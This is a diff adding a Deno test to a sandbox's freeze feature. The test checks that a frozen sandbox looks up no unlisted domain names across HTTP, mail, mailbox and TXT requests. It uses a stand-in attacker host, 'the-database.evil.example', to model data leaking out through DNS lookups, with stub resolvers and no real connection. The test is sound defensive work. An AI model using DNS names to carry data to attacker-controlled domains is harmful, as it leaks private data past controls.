@@ -2,8 +2,13 @@ import assert from "node:assert/strict";
 import { printFreeze } from "../../../sandbox/freeze/list.ts";
 import { connectSandbox } from "../../../sandbox/client.ts";
 import { openFreeze } from "../../../sandbox/freeze/freeze.ts";
+import type { Sandbox } from "../../../sandbox/client.ts";
+import type { MailboxRequest } from "../../../sandbox/mail/imap_protocol.ts";
+import type { MailRequest } from "../../../sandbox/mail/protocol.ts";
+import { serveSandbox } from "../../../sandbox/serve.ts";
 import { actionRequest, rawServer, spawnSandbox } from "../support.ts";
 import { readAll } from "../ledger/support.ts";
+import { monotonicMs } from "../../support/wait.ts";
 
 const OK = "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok";
 
@@ -122,4 +127,105 @@ Deno.test("the door of named customers is shut while frozen, unless the operator
     assert.equal(freeze.refuseCall("named", asked("/other"))?.code, "frozen", "the list holds at that door, too");
   }
   await Deno.remove(folder, { recursive: true });
+});
+
+/** The sandbox's clock. */
+const NOON = Date.parse("2026-11-22T12:00:00Z");
+
+/** A name that holds data: who answers for `evil.example` reads it, though no connection is made. */
+const TELLING = "the-database.evil.example";
+
+const MAIL: MailRequest = {
+  workspace: "w1",
+  server: {
+    kind: "own",
+    host: TELLING,
+    port: 587,
+    tls: "starttls",
+    user: null,
+    password: null,
+    from: "a@desk.example",
+  },
+  fromName: null,
+  to: { address: "b@desk.example", name: null },
+  replyTo: null,
+  ...{ subject: "", text: "", html: "", files: [], messageId: "<1@desk.example>", inReplyTo: null, references: [] },
+  unsubscribeUrl: null,
+  automatic: true,
+  deadlineMs: 5000,
+};
+
+const SEALED = { v: 2, kid: "1", seq: 1, iv: "AAAAAAAAAAAAAAAA", ct: "AAAA" } as const;
+const https = (change: Partial<Parameters<typeof actionRequest>[0]>) =>
+  actionRequest({ url: `https://${TELLING}/`, ...change });
+
+const mailboxAt = (port: number): MailboxRequest => ({
+  ...{ workspace: "w1", after: null, countMax: 1, deadlineMs: 5000 },
+  server: {
+    ...{ kind: "own", host: TELLING, port, tls: "tls", user: "u" },
+    password: { name: "_mail_in_password", sealed: SEALED },
+  },
+});
+
+/** Every request for which the sandbox would look a name up that the desk has chosen. */
+const LOOK_UPS: Readonly<Record<string, (sandbox: Sandbox) => Promise<unknown>>> = {
+  action: (sandbox) => sandbox.call(https({})),
+  named: (sandbox) => sandbox.call(https({ door: "named", customer: { kind: "named", userId: "u_1" } })),
+  model: (sandbox) => sandbox.call(https({ door: "model", method: "POST", body: "{}" })),
+  crawl: (sandbox) => sandbox.call(https({ door: "crawl" })),
+  oidc: (sandbox) => sandbox.call(https({ door: "oidc" })),
+  client: (sandbox) => sandbox.call(https({ door: "client" })),
+  webhook: (sandbox) =>
+    sandbox.call(https({
+      ...{ door: "webhook", method: "POST", body: "{}" },
+      headers: {
+        "content-type": "application/json",
+        ...{ "webhook-id": "1", "webhook-timestamp": "1", "webhook-signature": "v1,a" },
+      },
+    })),
+  mail: (sandbox) => sandbox.mail(MAIL),
+  mailbox: (sandbox) => sandbox.mailbox(mailboxAt(993)),
+  txt: (sandbox) => sandbox.txt({ name: TELLING }),
+};
+
+Deno.test("a frozen desk looks no name up that is not on the list: names carry data out", async () => {
+  const folder = await Deno.makeTempDir();
+  for (const own of ["keys", "ledger"]) await Deno.mkdir(`${folder}/${own}`);
+  const asked: string[] = [];
+  const running = await serveSandbox({
+    socketPath: `${folder}/sandbox.sock`,
+    ...{ keysDir: `${folder}/keys`, ledgerDir: `${folder}/ledger`, freezePath: `${folder}/freeze.json` },
+    ...{ allowances: [], model: null, namedCallsPerHour: 10, now: monotonicMs, wallClock: () => NOON },
+    resolve: (name) => {
+      asked.push(name);
+      return Promise.resolve([]);
+    },
+    resolveTxt: (name) => {
+      asked.push(name);
+      return Promise.resolve([]);
+    },
+  });
+  const sandbox = connectSandbox({ socketPath: `${folder}/sandbox.sock` });
+  try {
+    for (const [door, ask] of Object.entries(LOOK_UPS)) {
+      asked.length = 0;
+      await ask(sandbox);
+      assert.deepEqual(asked, [TELLING], `the control: unfrozen, ${door} looks it up`);
+    }
+    const { entries } = await readAll(`${folder}/ledger`);
+    assert.ok(entries.some((entry) => entry.kind === "site" && entry.origin === "dns"), "a look-up is in the ledger");
+    const list = { frozenAt: "2026-11-22T12:00:00Z", actions: [], sites: [], models: [], providers: [], named: true };
+    await Deno.writeTextFile(`${folder}/freeze.json`, printFreeze(list));
+    for (const [door, ask] of Object.entries(LOOK_UPS)) {
+      asked.length = 0;
+      const answer = JSON.stringify(await ask(sandbox));
+      assert.deepEqual([asked, /froze/.test(answer)], [[], true], `${door}: ${answer}`);
+    }
+    const { head } = await sandbox.mailbox(mailboxAt(0));
+    assert.equal(head.kind === "refused" && head.code, "request", "and a message that is none is answered, too");
+  } finally {
+    sandbox.close();
+    await running.shutdown();
+    await Deno.remove(folder, { recursive: true });
+  }
 });
